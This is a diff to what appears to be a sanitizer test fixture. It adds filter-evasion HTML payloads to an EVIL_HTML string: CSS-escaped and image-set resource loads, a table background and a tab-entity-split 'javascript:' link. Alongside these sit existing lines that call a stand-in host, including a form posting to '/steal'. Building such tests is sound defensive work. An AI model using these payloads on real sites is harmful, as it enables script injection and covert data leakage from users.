@@ -44,6 +44,11 @@ EVIL_HTML = """<html><head><style>body{background:url(http://198.51.100.7/css.gi
 <iframe src="javascript:window.top.PWNED='iframe'"></iframe>
 <form action="http://198.51.100.7/steal"><input name="q"></form>
 <object data="http://198.51.100.7/x.swf"></object>
+<p style="background:\\75 rl(http://198.51.100.7/escaped.gif)">escaped</p>
+<p style="background-image:image-set('http://198.51.100.7/set.png' 1x)">set</p>
+<p style="background:url('http://198.51.100.7/odd.gif)">odd</p>
+<table background="http://198.51.100.7/table.gif"><tr><td>cell</td></tr></table>
+<a href=" java&#x09;script:window.top.PWNED='entity'">entity link</a>
 </body></html>"""
 
 NOTES = b"Bring the maps.\n" * 3
